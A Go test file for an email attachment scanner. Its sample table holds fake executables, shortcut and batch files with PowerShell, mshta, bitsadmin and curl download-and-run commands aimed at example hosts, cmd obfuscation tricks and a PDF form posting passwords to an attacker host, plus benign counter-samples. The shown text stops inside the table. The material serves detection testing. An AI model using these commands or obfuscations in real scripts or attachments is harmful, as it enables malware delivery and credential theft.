package heuristic

import (
	"bytes"
	"context"
	"encoding/binary"
	"image"
	"image/png"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	qrcode "github.com/skip2/go-qrcode"

	"github.com/kensa-milter/kensa/internal/corpus/formats"
	"github.com/kensa-milter/kensa/message"
	"github.com/kensa-milter/kensa/scanners"
	"github.com/kensa-milter/kensa/urls"
)

// --- harmless stand-ins ---

// fakePE is a DOS header pointing at a "PE\0\0" signature and nothing else:
// enough to be recognised, not enough to run.
func fakePE() []byte {
	b := make([]byte, 0x80)
	copy(b, "MZ")
	binary.LittleEndian.PutUint32(b[0x3C:], 0x40)
	copy(b[0x40:], "PE\x00\x00")
	return b
}

func fakeELF() []byte { return append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 57)...) }

func fakeLNK() []byte {
	return append([]byte{0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46}, make([]byte, 60)...)
}

// lnk is a shortcut as the corpus writes one.
func lnk(s formats.Shortcut) []byte { return formats.LNK(s) }

func fakeISO() []byte {
	b := make([]byte, 0x8010)
	copy(b[0x8001:], "CD001")
	return b
}

var (
	pngBytes  = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
	jpegBytes = []byte{0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10, 'J', 'F', 'I', 'F'}
	zipBytes  = []byte("PK\x03\x04\x14\x00\x00\x00\x08\x00")
	cleanPDF  = []byte("%PDF-1.4\n1 0 obj\n<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.example.com/report) >> >>\nendobj\n%%EOF\n")
)

func pdfWith(s string) []byte { return []byte("%PDF-1.7\n1 0 obj\n<< " + s + " >>\nendobj\n%%EOF\n") }

// --- message builders ---

type opt func(*message.Part)

func named(n string) opt      { return func(p *message.Part) { p.Filename = n } }
func declared(t string) opt   { return func(p *message.Part) { p.DeclaredType = t } }
func alsoNamed(n string) opt  { return func(p *message.Part) { p.AltNames = append(p.AltNames, n) } }
func ambiguous(s string) opt  { return func(p *message.Part) { p.Ambiguous = s } }
func container() opt          { return func(p *message.Part) { p.Container = true } }
func encrypted() opt          { return func(p *message.Part) { p.Encrypted = true } }
func unlockedBy(s string) opt { return func(p *message.Part) { p.UnlockedBy = s } }
func shownBy(s string) opt    { return func(p *message.Part) { p.ShownBy = s } }
func oleClass(s string) opt   { return func(p *message.Part) { p.OLEClass = s } }
func part(path string, content []byte, opts ...opt) *message.Part {
	p := &message.Part{Path: path, Content: content, Depth: strings.Count(path, "/")}
	for _, o := range opts {
		o(p)
	}
	return p
}
func text(path, s string, opts ...opt) *message.Part { return part(path, []byte(s), opts...) }
func htmlPart(path, s string, opts ...opt) *message.Part {
	return part(path, []byte(s), append([]opt{declared("text/html")}, opts...)...)
}
func msg(parts ...*message.Part) *message.Message {
	return &message.Message{Parts: parts, From: "Alice <alice@example.com>",
		Envelope: message.Envelope{Sender: "alice@example.com"}}
}

// toKenji addresses m to kenji@corp.example.jp in its To header.
func toKenji(m *message.Message) *message.Message {
	m.To = "Kenji Tanaka <kenji@corp.example.jp>"
	return m
}

func toStaff(addr string, m *message.Message) *message.Message {
	m.To = addr
	return m
}

// fromSite makes m come from a site on Firebase hosting, as Firebase's own
// verification mail does.
func fromSite(m *message.Message) *message.Message {
	m.From, m.Envelope.Sender = "noreply@acme-app-12345.firebaseapp.com", "noreply@acme-app-12345.firebaseapp.com"
	return m
}

// attach is the usual shape: a text body and one attachment.
func attach(p *message.Part) *message.Message {
	return msg(text("1", "Please see the attachment.", declared("text/plain")), p)
}

func zipWith(member *message.Part) *message.Message {
	return msg(text("1", "hello"), part("2", zipBytes, named("a.zip"), container()), member)
}

// pdfStream is a PDF whose decoded streams unpack has joined into its
// member "streams", as unpack names it.
func pdfStream(s string) *message.Message {
	return msg(part("2", pdfWith("/Type /ObjStm"), named("x.pdf"), container()), text("2/x.pdf/streams", s, named("streams")))
}

func vba(path, code string) *message.Message {
	return msg(part("2", zipBytes, named("x.docm"), container()), text(path, code))
}

func relsMsg(rel string) *message.Message {
	return msg(part("2", zipBytes, named("x.docx"), container()),
		text("2/x.docx/word/_rels/settings.xml.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+rel+`</Relationships>`))
}

func body(html string) *message.Message { return msg(htmlPart("1", html)) }

// sentBy makes addr the sender of m, in the envelope and in From.
func sentBy(addr string, m *message.Message) *message.Message {
	m.From, m.Envelope.Sender = addr, addr
	return m
}

// lurePDF is a PDF whose page has a brand's name at its head in large
// type, then content.
func lurePDF(content string) []byte {
	return formats.TextPDF([]string{"BT /F1 24 Tf 72 780 Td (Norton) Tj ET " + content})
}

// credForm is a PDF form with a password field that SubmitForm sends to
// the web.
const credForm = "%PDF-1.7\n1 0 obj\n<< /FT /Tx /T (password) /Ff 8192 >>\nendobj\n2 0 obj\n<< /S /SubmitForm /F << /FS /URL /F (https://collect.evil.example/p) >> >>\nendobj\n%%EOF\n"

// linkLurePDF is a one-page PDF showing text (a Tj string's inside) with
// a link annotation to uri.
func linkLurePDF(text, uri string) []byte {
	return formats.TextPDF([]string{"BT /F1 16 Tf 72 700 Td (" + text + ") Tj ET"}, linkAnnot(uri))
}

func linkAnnot(uri string) string {
	return "<< /Type /Annot /Subtype /Link /Rect [60 600 540 760] /Border [0 0 0] /A << /S /URI /URI (" + uri + ") >> >>"
}

// --- fakes for pure-logic unit tests ---

type fakeDNSBL struct {
	mu      sync.Mutex
	listed  map[string]string
	queries []string
	max     int
}

func (f *fakeDNSBL) Lookup(_ context.Context, host string) ([]urls.Listing, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.queries = append(f.queries, host)
	if a, ok := f.listed[host]; ok {
		return []urls.Listing{{Zone: "dbl.test", Answer: a}}, nil
	}
	return nil, nil
}
func (f *fakeDNSBL) MaxQueries() int { return f.max }

func testBlocklist(t *testing.T) *urls.Blocklist {
	t.Helper()
	path := filepath.Join(t.TempDir(), "block.txt")
	if err := os.WriteFile(path, []byte("# test list\nevil.example\nhttps://sites.example.net/bad/\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	bl, err := urls.LoadBlocklist(path)
	if err != nil {
		t.Fatal(err)
	}
	return bl
}

func newScanner(t *testing.T) *Scanner {
	t.Helper()
	lk, err := urls.NewLookalikes([]string{testProtected})
	if err != nil {
		t.Fatal(err)
	}
	s, err := New(nil, Options{Blocklist: testBlocklist(t), Lookalikes: lk,
		DNSBL: &fakeDNSBL{max: 20, listed: map[string]string{"listed.example": "127.0.1.2"}}})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func scan(t *testing.T, s *Scanner, m *message.Message) []scanners.Finding {
	t.Helper()
	f, err := s.Scan(context.Background(), m)
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	return f
}

func find(fs []scanners.Finding, id string) *scanners.Finding {
	for i := range fs {
		if fs[i].ID == id {
			return &fs[i]
		}
	}
	return nil
}

// testProtected is the protected domain of newScanner's scanner.
const testProtected = "acme-payroll.example"

// wholeMessage as a sample's part: the check must fire for the whole
// message (its header), naming no part.
const wholeMessage = "(whole message)"

// sample is a message and the part a check must name ("" when it must not fire).
type sample struct {
	name string
	m    *message.Message
	part string
}

// longCodeTime gives the messages of t five minutes to read 2-D codes
// instead of urls.MaxCodeTime: t proves what is found in them, and on a CI
// machine busy with other packages, under -race (gozxing ten times slower),
// the search can outlast 3 s and be cut short. Five minutes still stops a
// hang. The deadline itself is tested in package urls.
func longCodeTime(t testing.TB) {
	t.Helper()
	was := urls.CodeTime
	urls.CodeTime = 5 * time.Minute
	t.Cleanup(func() { urls.CodeTime = was })
}

func TestChecks(t *testing.T) {
	longCodeTime(t)
	cases := map[string][]sample{
		"dangerous-executable": {
			{"PE bytes", attach(part("2", fakePE(), named("setup.exe"))), "2"},
			{"ELF bytes, no name", attach(part("2", fakeELF())), "2"},
			{"name only", attach(text("2", "not really", named("Tool.EXE"))), "2"},
			{"trailing dot and space", attach(text("2", "x", named("run.scr. "))), "2"},
			{"in a zip speaks elsewhere", zipWith(part("2/a.zip/setup.exe", fakePE(), named("setup.exe"))), ""},
			{"pdf", attach(part("2", cleanPDF, named("report.pdf"))), ""},
			{"text starting MZ", attach(text("2", "MZ Bank statement", named("statement.txt"))), ""},
			{"app installer", attach(text("2", "<AppInstaller Uri=\"https://x.example/a\"/>", named("Teams.appinstaller"))), "2"},
		},
		"dangerous-script": {
			{"js", attach(text("2", "var a", named("invoice.js"))), "2"},
			{"js as the other name", attach(text("2", "var a", named("invoice.txt"), alsoNamed("invoice.js"))), "2"},
			{"ps1 upper", attach(text("2", "x", named("RUN.PS1"))), "2"},
			{"hta", attach(text("2", "x", named("a.hta"))), "2"},
			{"troubleshooting pack", attach(part("2", []byte("MSCF\x00\x00\x00\x00"), named("Fix.diagcab"))), "2"},
			{"txt", attach(text("2", "x", named("script.txt"))), ""},
		},
		"dangerous-shortcut": {
			{"lnk by name", attach(text("2", "x", named("doc.lnk"))), "2"},
			{"lnk by bytes", attach(part("2", fakeLNK(), named("doc"))), "2"},
			{"url", attach(text("2", "[InternetShortcut]\nURL=file://x", named("a.url"))), "2"},
			{"search-ms", attach(text("2", "x", named("q.search-ms"))), "2"},
			{"remote desktop", attach(text("2", "full address:s:203.0.113.9\r\nredirectdrives:i:1\r\n", named("Secure Access.rdp"))), "2"},
			{"theme", attach(text("2", "[Theme]\r\n", named("corp.theme"))), "2"},
			{"theme pack", attach(part("2", []byte("MSCF\x00\x00\x00\x00"), named("corp.deskthemepack"))), "2"},
			{"md", attach(text("2", "# hi", named("readme.md"))), ""},
		},
		"shortcut-command": {
			{"powershell download, innocent name", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, IDList: true, Arguments: `-w hidden -c "iwr https://cdn.example.net/a.ps1 | iex"`}), named("Invoice"))), "2"},
			{"cmd only in the environment block", attach(part("2", lnk(formats.Shortcut{EnvTarget: `%windir%\system32\cmd.exe`, Arguments: `/c start /min mshta https://cdn.example.net/x.hta`}), named("Scan.pdf.lnk"))), "2"},
			{"%COMSPEC%", attach(part("2", lnk(formats.Shortcut{EnvTarget: `%COMSPEC%`, Arguments: `/c copy x.dat %TEMP%\\r.exe`}), named("a.lnk"))), "2"},
			{"encoded command", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, LinkInfo: true, Arguments: `-nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`}), named("a.lnk"))), "2"},
			{"mshta alone", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\mshta.exe`, LinkInfo: true, Arguments: `x.hta`}), named("a.lnk"))), "2"},
			{"rundll32 with a DLL beside it, in a zip", zipWith(part("2/a.zip/Document.lnk", lnk(formats.Shortcut{Target: `C:\Windows\System32\rundll32.exe`, IDList: true, Arguments: `data\x.dll,DllRegisterServer`}), named("Document.lnk"))), "2/a.zip/Document.lnk"},
			{"cmd with a batch file beside it", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\cmd.exe`, IDList: true, Arguments: `/q /c files\run.bat`}), named("a.lnk"))), "2"},
			{"arguments padded out of sight", attach(part("2", lnk(formats.Shortcut{Target: `C:\Program Files\Example\app.exe`, LinkInfo: true, Arguments: strings.Repeat(" ", 260) + `--load x`}), named("a.lnk"))), "2"},
			{"arguments after line breaks", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\notepad.exe`, LinkInfo: true, Arguments: "\n\n\nreadme"}), named("a.lnk"))), "2"},
			{"target on a WebDAV share", attach(part("2", lnk(formats.Shortcut{Target: `\\files.example.net@SSL\DavWWWRoot\Invoice.exe`, LinkInfo: true}), named("a.lnk"))), "2"},
			{"target in %TEMP%", attach(part("2", lnk(formats.Shortcut{EnvTarget: `%TEMP%\svc.exe`}), named("a.lnk"))), "2"},
			{"cmd under a PDF icon", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\cmd.exe`, IDList: true, IconLocation: `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, IconIndex: 11}), named("a.lnk"))), "2"},
			{"icon on an Internet share", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\notepad.exe`, LinkInfo: true, IconLocation: `\\203.0.113.7\s\i.ico`}), named("a.lnk"))), "2"},
			{"cmd with carets", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\cmd.exe`, IDList: true, Arguments: `/c p^ow^er^she^ll -w 1 notepad`}), named("a.lnk"))), "2"},
			{"cmd building powershell from a substring and a variable", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\cmd.exe`, IDList: true, Arguments: `/c "set x=ersh&&call %ProgramData:~3,1%ow%x%ell -nop -f x"`}), named("a.lnk"))), "2"},
			{"cmd with delayed expansion", attach(part("2", lnk(formats.Shortcut{EnvTarget: `%COMSPEC%`, Arguments: `/v:on /c "set a=ms&&set b=ht&&call !a!!b!a h!b!tps://cdn.example.net/x"`}), named("a.lnk"))), "2"},
			{"cmd substituting letters", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\cmd.exe`, IDList: true, Arguments: `/c set c=cXrtutil&&call %c:X=e% -f x`}), named("a.lnk"))), "2"},
			{"cmd setting a variable for a server's script (honest)", attach(part("2", lnk(formats.Shortcut{EnvTarget: `%COMSPEC%`, Arguments: `/k "set LANG=de&&cd /d %USERPROFILE%&&\\fileserver\tools\env.bat"`}), named("Tools.lnk"))), ""},
			{"cmd running a server's env.cmd (honest)", attach(part("2", lnk(formats.Shortcut{EnvTarget: `%COMSPEC%`, Arguments: `/k \\fileserver\tools\env.cmd`}), named("Tools.lnk"))), ""},
			{"cmd running a script beside it named .cmd", attach(part("2", lnk(formats.Shortcut{EnvTarget: `%COMSPEC%`, Arguments: `/c invoice.cmd`}), named("Invoice.pdf.lnk"))), "2"},
			{"cmd running a .cmd that starts powershell", attach(part("2", lnk(formats.Shortcut{EnvTarget: `%COMSPEC%`, Arguments: `/c x.cmd & powershell -nop -c irm example.net/a|iex`}), named("a.lnk"))), "2"},
			{"explorer opening a WebDAV folder", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\explorer.exe`, LinkInfo: true, Arguments: `\\files.example.net@SSL\DavWWWRoot\docs`}), named("a.lnk"))), "2"},
			{"lock workstation under shell32's icon (honest)", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\rundll32.exe`, IDList: true, Arguments: `user32.dll,LockWorkStation`, IconLocation: `%SystemRoot%\System32\shell32.dll`, IconIndex: 47}), named("Lock.lnk"))), ""},
			{"folder in Explorer (honest)", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\explorer.exe`, LinkInfo: true, Arguments: `/e,"D:\Projects\Harbour"`}), named("Projects.lnk"))), ""},
			{"command prompt (honest)", attach(part("2", lnk(formats.Shortcut{EnvTarget: `%windir%\system32\cmd.exe`, IconLocation: `%windir%\system32\cmd.exe`, WorkingDir: `%HOMEDRIVE%%HOMEPATH%`}), named("Command Prompt.lnk"))), ""},
			{"share document (honest)", attach(part("2", lnk(formats.Shortcut{Target: `\\fileserver\share\Report.xlsx`, LinkInfo: true, Name: "Q3 report"}), named("Report.lnk"))), ""},
			{"intranet app (honest)", attach(part("2", lnk(formats.Shortcut{Target: `C:\Program Files\Example\Client\client.exe`, IDList: true, LinkInfo: true, Arguments: `--server https://erp.corp.example.com --profile sales`, WorkingDir: `C:\Program Files\Example\Client`}), named("ERP.lnk"))), ""},
			{"developer prompt (honest)", attach(part("2", lnk(formats.Shortcut{EnvTarget: `%comspec%`, Arguments: `/k "C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\Tools\VsDevCmd.bat"`, WorkingDir: `%USERPROFILE%`}), named("Developer Command Prompt.lnk"))), ""},
			{"control panel applet (honest)", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\rundll32.exe`, IDList: true, Arguments: `shell32.dll,Control_RunDLL desk.cpl`}), named("Display.lnk"))), ""},
			{"uninstall (honest)", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\msiexec.exe`, LinkInfo: true, Arguments: `/x {6F320B93-EE3C-4826-85E0-ADF79F8D4C61}`}), named("Uninstall.lnk"))), ""},
			{"Office start-menu shortcut (honest)", attach(part("2", lnk(formats.Shortcut{Target: `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, IDList: true, LinkInfo: true, Arguments: `/safe`}), named("Excel (safe mode).lnk"))), ""},
			{"text named .lnk", attach(text("2", "cmd /c calc", named("a.lnk"))), ""},
			{"url to a WebDAV share", attach(text("2", "[InternetShortcut]\r\nURL=file://files.example.net@SSL/DavWWWRoot/Invoice.pdf.exe\r\n", named("Invoice.url"))), "2"},
			{"url search-ms of a share", attach(text("2", "[InternetShortcut]\r\nURL=search-ms:query=a&crumb=location:\\\\203.0.113.7\\s&\r\n", named("Docs.url"))), "2"},
			{"library on a WebDAV share", attach(text("2", `<libraryDescription><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\files.example.net@SSL\DavWWWRoot\d</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`, named("Documents.library-ms"))), "2"},
			{"search connector to a web folder", attach(text("2", `<searchConnectorDescription><simpleLocation><url>https://files.example.net/dav/</url></simpleLocation></searchConnectorDescription>`, named("Docs.searchConnector-ms"))), "2"},
			{"url to a web page (honest)", attach(text("2", "[InternetShortcut]\r\nURL=https://portal.example.com/login\r\n", named("Portal.url"))), ""},
			{"url to the file server (honest)", attach(text("2", "[InternetShortcut]\r\nURL=file://fileserver/finance/q3.xlsx\r\n", named("Q3.url"))), ""},
			{"library of the file server (honest)", attach(text("2", `<libraryDescription><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\fs01.corp.local\projects</url></simpleLocation></searchConnectorDescription><searchConnectorDescription><simpleLocation><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`, named("Projects.library-ms"))), ""},
		},
		"batch-command": {
			{"powershell download", attach(text("2", "@echo off\r\npowershell -w hidden -c \"iwr https://cdn.example.net/a.ps1 | iex\"\r\n", named("invoice.bat"))), "2"},
			{"name joined from set variables", attach(text("2", "@echo off\r\nset a=pow\r\nset b=ersh\r\nset c=ell\r\n%a%%b%%c% -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\r\n", named("scan.cmd"))), "2"},
			{"carets and a substring", attach(text("2", "@echo off\r\nc^u^r^l -s -o %TEMP%\\x.exe h^ttps://cdn.example.net/x\r\n%ProgramData:~3,1%ow^ershell -c start %TEMP%\\x.exe\r\n", named("run.bat"))), "2"},
			{"delayed expansion", attach(text("2", "setlocal EnableDelayedExpansion\r\nset \"m=msh\"\r\nset \"t=ta\"\r\n!m!!t! https://cdn.example.net/x.hta\r\n", named("a.bat"))), "2"},
			{"cmd /c with carets inside its quotes", attach(text("2", "cmd /c \"p^ow^ershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\"\r\n", named("a.bat"))), "2"},
			{"if and start before it", attach(text("2", "if exist %TEMP% (start /b powershell -ep bypass -c \"iex (New-Object Net.WebClient).DownloadString('https://cdn.example.net/a')\")\r\n", named("a.cmd"))), "2"},
			{"rundll32 on a DLL beside it, zipped", zipWith(text("2/a.zip/open.bat", "@start /min rundll32 data\\x.dll,DllRegisterServer\r\n", named("open.bat"))), "2/a.zip/open.bat"},
			{"bitsadmin in a zip", zipWith(text("2/a.zip/update.cmd", "bitsadmin /transfer j /download /priority high https://cdn.example.net/u.exe %PUBLIC%\\u.exe\r\n", named("update.cmd"))), "2/a.zip/update.cmd"},
			{"runner set in a subroutine called before it", attach(text("2", "@echo off\r\ncall :init\r\n%r% -w hidden -c \"iwr %u% | iex\"\r\nexit /b\r\n:init\r\nset r=powershell\r\nset u=https://cdn.example.net/a.ps1\r\ngoto :eof\r\n", named("a.bat"))), "2"},
			{"goto over a decoy set", attach(text("2", "@echo off\r\nset r=notepad\r\ngoto go\r\n:back\r\n%r% https://cdn.example.net/x.hta\r\nexit\r\n:go\r\nset r=mshta\r\ngoto back\r\n", named("a.cmd"))), "2"},
			{"for item joined to the runner's name", attach(text("2", "@echo off\r\nfor %%a in (ershell) do pow%%a -nop -c \"iwr https://cdn.example.net/a.ps1 | iex\"\r\n", named("a.bat"))), "2"},
			{"for /f tokens of a string", attach(text("2", "for /f \"tokens=1,2 delims=-\" %%a in (\"power-shell\") do %%a%%b -w hidden -c \"iwr https://cdn.example.net/a.ps1 | iex\"\r\n", named("a.bat"))), "2"},
			{"for /f running a command", attach(text("2", "for /f \"delims=\" %%x in ('powershell -w hidden -c \"iwr https://cdn.example.net/a.ps1 | iex\"') do echo %%x\r\n", named("a.bat"))), "2"},
			{"else branch picked by a known condition", attach(text("2", "@echo off\r\nif \"%OS%\"==\"Linux\" (set r=notepad) else (set r=mshta)\r\n%r% https://cdn.example.net/x.hta\r\n", named("a.bat"))), "2"},
			{"branch an unknown condition picks", attach(text("2", "@echo off\r\nif exist \"%TEMP%\\done\" (\r\n  set r=powershell\r\n) else (\r\n  set r=notepad\r\n)\r\n%r% -w hidden -c \"iwr https://cdn.example.net/a.ps1 | iex\"\r\n", named("a.bat"))), "2"},
			{"a loop of labels ends (honest)", attach(text("2", "@echo off\r\n:again\r\nping -n 2 127.0.0.1 >nul\r\nif not exist \\\\fileserver\\ready goto again\r\ncall :again\r\n", named("wait.bat"))), ""},
			{"backup with subroutines and loops (honest)", attach(text("2", "@echo off\r\nsetlocal\r\ncall :log Starting backup\r\nfor %%d in (Documents Desktop Pictures) do robocopy \"%USERPROFILE%\\%%d\" \"\\\\nas\\backup\\%USERNAME%\\%%d\" /MIR /R:1 /W:1\r\nfor /f \"tokens=2 delims==\" %%v in ('wmic os get localdatetime /value') do set stamp=%%v\r\nif exist \"%ProgramFiles%\\Backup\\notify.exe\" (\"%ProgramFiles%\\Backup\\notify.exe\" /done) else (call :log notify missing)\r\nif errorlevel 8 goto failed\r\ncall :log Backup done %stamp%\r\nexit /b 0\r\n:failed\r\ncall :log Backup failed\r\nexit /b 1\r\n:log\r\necho %date% %time% %* >> \"%TEMP%\\backup.log\"\r\ngoto :eof\r\n", named("backup.bat"))), ""},
			{"batch text named .txt", attach(text("2", "powershell -w hidden -c \"iwr https://cdn.example.net/a.ps1 | iex\"\r\n", named("notes.txt"))), ""},
			{"login script (honest)", attach(text("2", "@echo off\r\nrem Map drives and printers; see https://intranet.example.com/it\r\nnet use Z: \\\\fileserver\\share /persistent:no\r\ncscript //nologo \\\\fileserver\\netlogon\\printers.vbs\r\nrundll32 printui.dll,PrintUIEntry /in /n\\\\printsrv\\HP-3F\r\nstart \"\" \"https://intranet.example.com/\"\r\n", named("logon.bat"))), ""},
			{"backup script (honest)", attach(text("2", "@echo off\r\nsetlocal EnableDelayedExpansion\r\nset \"dest=\\\\nas\\backup\\%USERNAME%\"\r\necho Backing up to !dest! (do not run powershell downloads here)\r\nrobocopy \"%USERPROFILE%\\Documents\" \"!dest!\" /MIR /R:2 /LOG:\"%TEMP%\\backup.log\"\r\npowershell -NoProfile -Command \"Compress-Archive -Path C:\\Data -DestinationPath !dest!\\data.zip -Force\"\r\nif errorlevel 1 pause\r\n", named("backup.cmd"))), ""},
			{"installer script (honest)", attach(text("2", "@echo off\r\nmsiexec /i \"\\\\fileserver\\deploy\\client.msi\" /qn\r\npowershell -NoProfile -ExecutionPolicy Bypass -File \"%~dp0configure.ps1\"\r\nschtasks /create /tn \"Nightly backup\" /tr \"C:\\Scripts\\backup.bat\" /sc daily /st 23:00\r\n", named("install.bat"))), ""},
		},
		"risky-container": {
			{"iso by name", attach(part("2", zipBytes, named("disk.iso"))), "2"},
			{"iso by bytes", attach(part("2", fakeISO(), named("photos"))), "2"},
			{"onenote", attach(text("2", "x", named("notes.one"))), "2"},
			{"png", attach(part("2", pngBytes, named("photo.png"))), ""},
		},
		"executable-in-container": {
			{"exe in zip", zipWith(part("2/a.zip/payload.exe", fakePE(), named("payload.exe"))), "2/a.zip/payload.exe"},
			{"unnamed PE in zip", zipWith(part("2/a.zip/x", fakePE())), "2/a.zip/x"},
			{"js in zip", zipWith(text("2/a.zip/x.js", "var a", named("x.js"))), "2/a.zip/x.js"},
			// Zip names without the UTF-8 flag are OEM bytes (Shift_JIS,
			// CP437): the extension a user sees is their ASCII tail, since
			// no OEM code page uses "." as a trail byte.
			{"Shift_JIS name in zip", zipWith(text("2/a.zip/x", "var a", named("\x90\xbf\x8b\x81\x8f\x91.js"))), "2/a.zip/x"},
			{"Shift_JIS 0x5C trail byte", zipWith(text("2/a.zip/x", "var a", named("\x95\\.js"))), "2/a.zip/x"},
			{"CP437 name in zip", zipWith(text("2/a.zip/x", "var a", named("r\x82sum\x82.js"))), "2/a.zip/x"},
			{"encrypted lnk", zipWith(part("2/a.zip/doc.lnk", nil, named("doc.lnk"), encrypted())), "2/a.zip/doc.lnk"},
			{"no container flag", msg(part("2/a.iso/setup.exe", fakePE(), named("setup.exe"))), "2/a.iso/setup.exe"},
			{"txt in zip", zipWith(text("2/a.zip/readme.txt", "hi", named("readme.txt"))), ""},
			{"top-level exe", attach(part("2", fakePE(), named("setup.exe"))), ""},
		},
		"disguised-executable": {
			{"PE named pdf", attach(part("2", fakePE(), named("invoice.pdf"))), "2"},
			{"PE declared pdf", attach(part("2", fakePE(), declared("application/pdf"))), "2"},
			{"ELF named jpg in zip", zipWith(part("2/a.zip/cat.jpg", fakeELF(), named("cat.jpg"))), "2/a.zip/cat.jpg"},
			{"PE named exe", attach(part("2", fakePE(), named("setup.exe"))), ""},
			{"PE as octet-stream", attach(part("2", fakePE(), declared("application/octet-stream"))), ""},
			{"real pdf", attach(part("2", cleanPDF, named("invoice.pdf"))), ""},
		},
		"type-mismatch": {
			{"zip named pdf", attach(part("2", zipBytes, named("invoice.pdf"))), "2"},
			{"pdf declared png", attach(part("2", cleanPDF, declared("image/png"))), "2"},
			{"docx that is OLE", attach(part("2", []byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, named("enc.docx"))), ""},
			{"jpg that is png", attach(part("2", pngBytes, named("photo.jpg"))), ""},
			{"pdf as octet-stream", attach(part("2", cleanPDF, named("a.pdf"), declared("application/octet-stream"))), ""},
		},
		"filename-mismatch": {
			{"name a.js, filename a.txt", attach(text("2", "x", named("a.txt"), alsoNamed("a.js"))), "2"},
			{"cut at NUL", attach(text("2", "x", named("a.js\x00.txt"), alsoNamed("a.js"))), "2"},
			{"same extension", attach(text("2", "x", named("Rechnung.pdf"), alsoNamed("Rechnung 2026.pdf"))), ""},
			{"one name", attach(text("2", "x", named("a.txt"))), ""},
		},
		"mime-ambiguous": {
			{"shown by one reading", attach(text("last-field:2", "x", named("a.txt"), shownBy("shown only when read as: last-field"))), "last-field:2"},
			{"every reading", attach(text("2", "x", named("a.txt"))), ""},
		},
		"double-extension": {
			{"pdf.exe", attach(text("2", "x", named("invoice.pdf.exe"))), "2"},
			{"padded", attach(text("2", "x", named("report.docx      .js"))), "2"},
			{"JPG.lnk", attach(text("2", "x", named("scan.JPG.lnk"))), "2"},
			{"padding only", attach(text("2", "x", named("photo                .scr"))), "2"},
			{"tar.gz", attach(text("2", "x", named("backup.tar.gz"))), ""},
			{"version", attach(text("2", "x", named("setup.1.2.exe"))), ""},
			{"dots in name", attach(text("2", "x", named("report.final.pdf"))), ""},
		},
		"rtlo-filename": {
			{"rtlo", attach(text("2", "x", named("invoice\u202Efdp.exe"))), "2"},
			{"rtlo in the other name", attach(text("2", "x", named("invoice.txt"), alsoNamed("invoice\u202Efdp.exe"))), "2"},
			{"arabic", attach(text("2", "x", named("فاتورة.pdf"))), ""},
			{"japanese", attach(text("2", "x", named("請求書.pdf"))), ""},
		},
		"bidi-filename": {
			{"isolate", attach(text("2", "x", named("a\u2067b\u2069.pdf"))), "2"},
			{"hebrew", attach(text("2", "x", named("חשבונית.pdf"))), ""},
		},
		"homoglyph-filename": {
			{"cyrillic o", attach(text("2", "x", named("invоice.pdf"))), "2"},
			{"dot leader", attach(text("2", "x", named("report\u2024pdf"))), "2"},
			{"russian", attach(text("2", "x", named("Отчёт 2024.pdf"))), ""},
			{"russian and latin words", attach(text("2", "x", named("Report_Отчёт.pdf"))), ""},
		},
		"encrypted-archive": {
			{"encrypted member", zipWith(part("2/a.zip/doc.pdf", nil, named("doc.pdf"), encrypted())), "2/a.zip/doc.pdf"},
			{"plain member", zipWith(part("2/a.zip/doc.pdf", cleanPDF, named("doc.pdf"))), ""},
		},
		"password-from-body": {
			{"body", msg(text("1", "password: abc"), part("2", zipBytes, named("a.zip"), container(), unlockedBy("body"))), "2"},
			{"subject", msg(part("2", zipBytes, named("a.zip"), container(), unlockedBy("subject"))), "2"},
			{"file name", msg(part("2", zipBytes, named("Invoice_PW_4471.zip"), container(), unlockedBy("filename"))), "2"},
			{"another attachment", msg(part("2", zipBytes, named("a.zip"), container(), unlockedBy("attachment")), part("3", []byte("Password: x"), named("password.txt"))), "2"},
			{"config", msg(part("2", zipBytes, named("a.zip"), container(), unlockedBy("config"))), ""},
			{"locked", msg(part("2", zipBytes, named("a.zip"), container())), ""},
